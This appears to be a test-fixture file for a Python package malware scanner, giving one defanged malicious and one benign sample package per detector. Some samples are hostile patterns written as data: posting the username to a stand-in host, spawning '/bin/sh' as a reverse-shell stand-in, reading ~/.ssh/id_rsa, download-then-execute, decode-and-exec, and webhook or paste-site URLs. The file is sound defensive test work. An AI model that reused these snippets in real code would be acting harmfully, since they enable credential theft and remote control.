"""One positive and one negative example package per registered feature (GuardDog's habit: every rule
has a malicious and a benign example). A new detector adds its pair here; tests/features/test_detectors.py
fails for any registered feature without one. Payloads are defanged: they are only ever read as data."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from featurepkgs import make_archive, pkg_info
from vetpy.acquire.interface import Archive

PLAIN_SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
HOOK_SETUP = (
    "from setuptools import setup\nfrom setuptools.command.install import install\n"
    "class Post(install):\n    def run(self):\n        install.run(self)\n"
    "setup(name='demo', cmdclass={'install': Post})\n"
)
SYSTEM_SETUP = "import os\nfrom setuptools import setup\nos.system('echo hi')\nsetup(name='demo')\n"
B64 = "aW1wb3J0IG9z"  # base64 of a harmless word
MIT = "License :: OSI Approved :: MIT License"
ENTROPY = "q8Zr2Lm0Xv7Pk4Yt1Ws9Bn6Hc3Jd5Fg0Aq8Zr2Lm0Xv7Pk4Yt1Ws9Bn6Hc3Jd5Fg0A+/"


@dataclass(frozen=True)
class Case:
    """A feature's positive (must be > 0) and negative (must be 0) example packages."""

    positive: Callable[[], Archive]
    negative: Callable[[], Archive]


def files(pos: dict[str, str | bytes], neg: dict[str, str | bytes], **kw: object) -> Case:
    return Case(lambda: make_archive(pos, **kw), lambda: make_archive(neg, **kw))  # type: ignore[arg-type]


def code(pos: str, neg: str) -> Case:
    """A module ``pkg/mod.py`` with the given source."""
    return files({"pkg/mod.py": pos}, {"pkg/mod.py": neg})


def meta(pos: dict[str, object], neg: dict[str, object]) -> Case:
    """Packages differing only in make_archive keywords (metadata, name, version)."""
    return Case(lambda: make_archive({}, **pos), lambda: make_archive({}, **neg))  # type: ignore[arg-type]


CASES: dict[str, Case] = {
    # --- paper ---
    "paper.homepage_invalid": meta({}, {"pkg_info": pkg_info(home_page="https://github.com/someone/demo")}),
    "paper.author_email_invalid": meta({}, {"pkg_info": pkg_info(author_email="dev@gmail.com")}),
    "paper.install_hook": files({"setup.py": HOOK_SETUP}, {"setup.py": PLAIN_SETUP}),
    "paper.suspicious_url": code(
        "U = 'http://collector.example.invalid/x'\n", "U = 'https://docs.python.org/3/'\n"
    ),
    # read in the files the fast pass analyses (prepass.py): here an __init__.py, which runs on import
    "paper.long_string": files(
        {"pkg/__init__.py": "K = '" + "a" * 50 + "'\n"}, {"pkg/__init__.py": "K = 'a'\n"}
    ),
    "paper.minimal_setup_cfg": files(
        {"setup.cfg": "[egg_info]\ntag_build =\ntag_date = 0\n"}, {"setup.cfg": "[metadata]\nname = demo\n"}
    ),
    "paper.license_mismatch": meta(
        {"pkg_info": pkg_info(license="Apache 2.0", classifier=MIT)},
        {"pkg_info": pkg_info(license="MIT", classifier=MIT)},
    ),
    # --- archive ---
    "archive.limit_hit": meta({"limit_hit": "size"}, {}),
    "archive.path_tricks": meta({"notes": ("absolute path: /etc/demo",)}, {}),
    "archive.binary_files": files({"bin/tool": b"\x7fELF" + b"\x00" * 200}, {"bin/tool": b"#!/bin/sh\n"}),
    "archive.nested_archives": files({"inner.zip": b"PK\x03\x04" + b"\x00" * 40}, {"inner.txt": b"plain"}),
    "archive.log_files": meta({}, {"pkg_info": None}),
    "archive.log_py_files": files({"a.py": "x = 1\n"}, {"a.txt": "x"}),
    "archive.log_py_bytes": files({"a.py": "x = 1\n"}, {"a.txt": "x"}),
    "archive.no_python": files({"a.txt": "x"}, {"a.py": "x = 1\n"}),
    # --- metadata ---
    "meta.missing_pkg_info": meta({"pkg_info": None}, {}),
    "meta.log_description": meta({"pkg_info": pkg_info() + "\n" + "word " * 20}, {}),
    "meta.no_license": Case(
        lambda: make_archive({}),
        lambda: make_archive({"LICENSE": "MIT License"}, pkg_info=pkg_info(license="MIT")),
    ),
    "meta.no_author": meta({}, {"pkg_info": pkg_info(author="Jane")}),
    "meta.odd_version": meta(
        {"version": "0.0.0", "pkg_info": pkg_info(version="0.0.0")},
        {"version": "1.4.2", "pkg_info": pkg_info(version="1.4.2")},
    ),
    "meta.typosquat_similarity": meta({"name": "requestss"}, {"name": "requests"}),
    "meta.typosquat": meta({"name": "requestss"}, {"name": "requests"}),
    # --- install ---
    "install.cmdclass": files({"setup.py": HOOK_SETUP}, {"setup.py": PLAIN_SETUP}),
    "install.setup_code": files({"setup.py": SYSTEM_SETUP}, {"setup.py": PLAIN_SETUP}),
    "install.setup_suspicious": files({"setup.py": SYSTEM_SETUP}, {"setup.py": PLAIN_SETUP}),
    "install.pth_exec": files({"demo.pth": "import os; os.getpid()\n"}, {"demo.pth": "lib/demo\n"}),
    "install.init_suspicious": files(
        {"pkg/__init__.py": "import os\nos.system('echo hi')\n"},
        {"pkg/__init__.py": "import os\ndef f():\n    os.system('echo hi')\n"},
    ),
    "install.entry_point_payload": files(
        {
            "demo.egg-info/entry_points.txt": "[console_scripts]\ndemo = pkg.cli:main\n",
            "pkg/cli.py": "import os\ndef main():\n    os.system('echo hi')\n",
        },
        {
            "demo.egg-info/entry_points.txt": "[console_scripts]\ndemo = pkg.cli:main\n",
            "pkg/cli.py": "def main():\n    print('hi')\n",
        },
    ),
    "install.import_time_payload": code(
        "import os\nos.system('echo hi')\n", "import os\ndef f():\n    os.system('echo hi')\n"
    ),
    # --- dynamic code ---
    "code.exec_eval": code("exec('print(1)')\n", "print('exec')\n"),
    "code.compile": code("c = compile('1', 'f', 'eval')\n", "import re\nr = re.compile('x')\n"),
    "code.dunder_import": code("m = __import__('o' + 's')\n", "import os\n"),
    "code.dynamic_getattr": code("import os\nf = getattr(os, name)\n", "x = getattr(obj, 'size', 0)\n"),
    "code.decode_exec": code(
        f"import base64\nexec(base64.b64decode('{B64}'))\n", "exec(open('version.py').read())\n"
    ),
    "code.base64": code(
        f"from base64 import b64decode as d\nd('{B64}')\n", "import base64\nbase64.b64encode(b'x')\n"
    ),
    "code.marshal_zlib": code("import zlib\nzlib.decompress(b'')\n", "import zlib\nzlib.crc32(b'')\n"),
    # --- processes and network ---
    "code.subprocess": code(
        "import subprocess as sp\nsp.run(['echo', 'hi'])\n", "import shutil\nshutil.which('x')\n"
    ),
    "code.os_system": code(
        "from os import system as s\ns('echo hi')\n", "def system(x):\n    pass\nsystem('x')\n"
    ),
    "code.reverse_shell": code("import pty\npty.spawn('/bin/sh')\n", "import os\nos.getpid()\n"),
    "code.socket": code("import socket\ns = socket.socket()\n", "import socketserver\n"),
    "code.http": code(
        "import urllib.request\nurllib.request.urlopen('https://example.invalid')\n",
        "import urllib.parse\nurllib.parse.quote('x')\n",
    ),
    "code.raw_ip": code("H = 'http://198.51.100.7:8080/c'\n", "H = 'http://127.0.0.1:8080/c'\n"),
    "code.webhook": code(
        "W = 'https://discord.com/api/webhooks/1/abc'\n", "W = 'https://discord.com/developers'\n"
    ),
    "code.paste_site": code("P = 'https://pastebin.com/raw/abc'\n", "P = 'https://github.com/raw/abc'\n"),
    "code.unusual_host": code(
        "U = 'https://collector.example.invalid/x'\n", "U = 'https://docs.python.org/3/'\n"
    ),
    "code.download_exec": code(
        "import os, requests\nr = requests.get('https://example.invalid/p')\nos.system('echo run')\n",
        "import requests\nr = requests.get('https://example.invalid/p')\n",
    ),
    "code.decoded_sink": code(
        f"import base64, requests\nrequests.get(base64.b64decode('{B64}') + b'/k')\n",
        "import base64, requests\nrequests.get('https://example.invalid', data=base64.b64encode(b'x'))\n",
    ),
    # --- behaviour concentration ---
    "code.max_file_behaviours": code("import os\nos.system('echo hi')\n", "x = 1\n"),
    "install.running_file_behaviours": code(
        "import os\nos.system('echo hi')\n", "import os\ndef f():\n    os.system('echo hi')\n"
    ),
    # --- data access ---
    "code.exfil_flow": code(
        "import getpass, requests\nu = getpass.getuser()\nrequests.post('https://h.invalid', json=[u])\n",
        "import os, requests\nrequests.get('https://example.invalid', headers={'T': os.environ['TOKEN']})\n",
    ),
    "code.credential_read": code("import os\np = os.path.expanduser('~/.ssh/id_rsa')\n", "p = 'README.md'\n"),
    "code.env_access": code(
        "import os\nh = os.environ.get('HOME')\n", "environ = {}\nh = environ.get('HOME')\n"
    ),
    "code.startup_write": code("p = '~/.bashrc'\n", "p = '~/.config/demo.toml'\n"),
    "code.system_info": code("import socket\nn = socket.gethostname()\n", "import socket\nsocket.AF_INET\n"),
    "code.ctypes_win": code("import ctypes\nctypes.windll.user32\n", "import json\n"),
    # --- obfuscation ---
    "code.max_entropy": code(f"K = '{ENTROPY}'\n", "x = 1\n"),
    "code.high_entropy_strings": code(
        f"K = '{ENTROPY}'\n", "K = '" + "the quick brown fox jumps over the lazy dog " * 3 + "'\n"
    ),
    "code.long_strings": code("K = '" + "ab" * 120 + "'\n", "K = '" + "ab" * 60 + "'\n"),
    "code.hex_chr_chains": code(
        "s = chr(101)+chr(99)+chr(104)+chr(111)+chr(32)+chr(104)+chr(105)+chr(33)\n", "s = chr(65)\n"
    ),
    "code.obfuscator": code("from pytransform import pyarmor_runtime\n", "from typing import Any\n"),
    "code.long_lines": code("x = [" + "1, " * 400 + "]\n", "x = [1, 2, 3]\n"),
    "code.parse_error": files({"pkg/__init__.py": "def broken(:\n"}, {"pkg/__init__.py": "x = 1\n"}),
    "code.parse_error_ratio": files(
        {"pkg/__init__.py": "print 'python 2'\n"}, {"pkg/__init__.py": "print('python 3')\n"}
    ),
}
